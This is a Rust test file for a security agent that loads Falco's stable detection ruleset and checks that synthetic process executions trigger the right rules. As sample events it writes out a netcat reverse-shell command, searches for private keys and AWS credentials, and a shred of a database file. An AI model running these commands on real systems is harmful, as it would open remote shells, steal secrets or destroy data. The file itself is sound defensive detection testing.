//! Compatibility with Falco's stable ruleset: it loads with zero errors, the exec rules are
//! evaluable, and synthetic execs fire them with Falco's names and priorities while
//! near-misses do not.

mod rules_support;

use rules_support::{default_rules, engine, fired, load_ok, stable_rules};
use youwatch_agent::{
    detection::{Origin, Priority, Subject},
    rules::{RuleMatching, Status, Unsupported, sample::Exec},
};

/// /dev/pts/0
const PTS0: u32 = 34816;

#[test]
fn stable_ruleset_loads_with_zero_errors() {
    let set = load_ok(&[stable_rules()]);
    assert_eq!(set.infos.len(), 25);
    let evaluable: Vec<&str> = set
        .infos
        .iter()
        .filter(|i| i.status == Status::Evaluable)
        .map(|i| i.name.as_str())
        .collect();
    assert_eq!(
        evaluable,
        [
            "Run shell untrusted",
            "System user interactive",
            "Terminal shell in container",
            "Netcat Remote Code Execution in Container",
            "Search Private Keys or Passwords",
            "Remove Bulk Data from Disk",
            "Find AWS Credentials",
        ]
    );
    // Every other rule says why, and each rule is one warning.
    let needs_fields: Vec<(&str, Vec<&str>)> = set
        .infos
        .iter()
        .filter_map(|i| match &i.status {
            Status::Unsupported(Unsupported::Needs(m)) => {
                Some((i.name.as_str(), m.iter().map(|m| m.what.as_str()).collect()))
            }
            _ => None,
        })
        .collect();
    assert_eq!(
        needs_fields,
        [
            (
                "Debugfs Launched in Privileged Container",
                vec!["container.privileged"]
            ),
            ("Execution from /dev/shm", vec!["proc.cwd"]),
            (
                "Drop and execute new binary in container",
                vec!["proc.is_exe_upper_layer"]
            ),
            (
                "Fileless execution via memfd_create",
                vec!["proc.is_exe_from_memfd"]
            ),
        ]
    );
    let other_events = set
        .infos
        .iter()
        .filter(|i| matches!(i.status, Status::Unsupported(Unsupported::EventTypes(_))))
        .count();
    assert_eq!(other_events, 14);
    assert_eq!(set.unsupported_warnings().len(), 18);
    let warning = set
        .unsupported_warnings()
        .into_iter()
        .find(|w| w.what.contains("Execution from /dev/shm"))
        .unwrap()
        .to_string();
    assert!(
        warning.starts_with("falco_rules.yaml:1159:3: warning: rule \"Execution from /dev/shm\": disabled: needs proc.cwd (falco_rules.yaml:1168:10)"),
        "{warning}"
    );
}

/// Each exec-based stable rule: an event that fires it (and nothing else), with Falco's
/// name and priority, and near-misses that fire nothing.
#[test]
fn exec_rules_fire_with_falco_names_and_priorities() {
    let engine = engine(&[stable_rules()], RuleMatching::All);
    let cases = [
        (
            "Terminal shell in container",
            Priority::Notice,
            Exec::new(["bash"])
                .ancestor(["containerd-shim", "-namespace", "k8s.io"])
                .tty(PTS0)
                .pod("shop", "juice-shop-6f7d9")
                .build(),
        ),
        (
            "Run shell untrusted",
            Priority::Notice,
            Exec::new(["sh", "-c", "id"])
                .ancestor(["/usr/sbin/nginx", "-g", "daemon off;"])
                .ancestor(["containerd-shim"])
                .container("web", "docker.io/library/nginx:1.27")
                .build(),
        ),
        (
            "System user interactive",
            Priority::Informational,
            Exec::new(["ls", "/etc"])
                .ancestor(["-bash"])
                .ancestor(["sshd", "-D"])
                .user(33, "www-data")
                .build(),
        ),
        (
            "Netcat Remote Code Execution in Container",
            Priority::Warning,
            Exec::new(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
                .ancestor(["node", "app.js"])
                .container("app", "docker.io/bkimminich/juice-shop:v17.1.1")
                .build(),
        ),
        (
            "Search Private Keys or Passwords",
            Priority::Warning,
            Exec::new(["grep", "-r", "BEGIN RSA PRIVATE", "/"])
                .ancestor(["node", "app.js"])
                .build(),
        ),
        (
            "Remove Bulk Data from Disk",
            Priority::Warning,
            Exec::new(["shred", "-u", "/data/db.sqlite"])
                .ancestor(["node", "app.js"])
                .build(),
        ),
        (
            "Find AWS Credentials",
            Priority::Warning,
            Exec::new(["find", "/", "-path", "*/.aws/credentials"])
                .ancestor(["node", "app.js"])
                .build(),
        ),
    ];
    for (rule, priority, exec) in cases {
        assert_eq!(
            fired(&engine, &exec),
            [(rule.to_owned(), priority)],
            "{rule}: {:?}",
            exec.process
        );
    }

    let near_misses = [
        // No terminal.
        Exec::new(["bash"])
            .ancestor(["containerd-shim"])
            .pod("shop", "juice-shop-6f7d9")
            .build(),
        // Terminal, but on the host.
        Exec::new(["bash"]).ancestor(["sshd"]).tty(PTS0).build(),
        // Terminal shell in a container, but started by another shell (not the entrypoint).
        Exec::new(["bash"])
            .ancestor(["bash"])
            .tty(PTS0)
            .container("app", "docker.io/library/app:1")
            .build(),
        // A shell under nginx, but the command line Falco knows as benign.
        Exec::new(["sh", "-c", "uname -a 2>&1"])
            .ancestor(["/usr/sbin/nginx"])
            .container("web", "docker.io/library/nginx:1.27")
            .build(),
        // A shell under a shell under nginx: the parent is a shell.
        Exec::new(["sh", "-c", "id"])
            .ancestor(["bash"])
            .ancestor(["/usr/sbin/nginx"])
            .build(),
        // An interactive command, but by root.
        Exec::new(["ls"])
            .ancestor(["-bash"])
            .ancestor(["sshd"])
            .build(),
        // netcat without -e/-c.
        Exec::new(["nc", "-zv", "10.0.0.1", "80"])
            .container("app", "docker.io/library/app:1")
            .build(),
        // netcat with -e, but on the host.
        Exec::new(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]).build(),
        // grep for something else.
        Exec::new(["grep", "-r", "TODO", "/src"]).build(),
        // find, but not for keys.
        Exec::new(["find", "/", "-name", "credentials"]).build(),
        // rm is not shred.
        Exec::new(["rm", "-rf", "/data"]).build(),
    ];
    for exec in near_misses {
        assert!(
            fired(&engine, &exec).is_empty(),
            "near-miss fired: {:?} -> {:?}",
            exec.process,
            fired(&engine, &exec)
        );
    }
}

/// Falco's default rule_matching is `first`; with the defaults loaded before the stable
/// ruleset (the agent's order), the juice-shop rule wins for a shell in a juice-shop pod.
#[test]
fn defaults_and_stable_ruleset_together() {
    let all = engine(&[default_rules(), stable_rules()], RuleMatching::All);
    let first = engine(&[default_rules(), stable_rules()], RuleMatching::First);
    let exec = Exec::new(["bash"])
        .ancestor(["runc"])
        .tty(PTS0)
        .pod("shop", "juice-shop-6f7d9")
        .build();
    let names: Vec<String> = fired(&all, &exec).into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        names,
        [
            "Shell spawned in Juice Shop pod",
            "Interactive terminal shell in container",
            "Shell started by container runtime in pod",
            "Terminal shell in container",
        ]
    );
    let detections = first.evaluate(&exec);
    assert_eq!(detections.len(), 1);
    let d = &detections[0];
    assert_eq!(d.rule, "Shell spawned in Juice Shop pod");
    assert_eq!(d.priority, Priority::Critical);
    assert_eq!(d.origin, Origin::Rules);
    assert!(
        d.output
            .starts_with("Shell spawned in Juice Shop pod | pod=juice-shop-6f7d9 ns=shop"),
        "{}",
        d.output
    );
    assert_eq!(d.output_fields["k8s.pod.name"], "juice-shop-6f7d9");
    assert_eq!(d.output_fields["proc.tty"], PTS0);
    let Subject::Pod(pod) = &d.subject else {
        panic!("{:?}", d.subject)
    };
    assert_eq!(
        (pod.namespace.as_str(), pod.name.as_str()),
        ("shop", "juice-shop-6f7d9")
    );
    assert!(pod.uid.is_some());
}

/// Outputs render fields exec events do not carry as <NA>, as Falco does.
#[test]
fn stable_outputs_render() {
    let engine = engine(&[stable_rules()], RuleMatching::First);
    let exec = Exec::new(["bash"])
        .ancestor(["containerd-shim"])
        .tty(PTS0)
        .user(0, "root")
        .container("app", "docker.io/library/app:1")
        .build();
    let d = engine.evaluate(&exec).remove(0);
    assert_eq!(
        d.output,
        "A shell was spawned in a container with an attached terminal | evt_type=execve user=root \
         user_uid=0 user_loginuid=<NA> process=bash proc_exepath=/usr/bin/bash \
         parent=containerd-shim command=bash terminal=34816 exe_flags=<NA>"
    );
    assert_eq!(d.output_fields["user.loginuid"], serde_json::Value::Null);
    assert_eq!(
        d.tags,
        [
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "shell"
        ]
    );
}
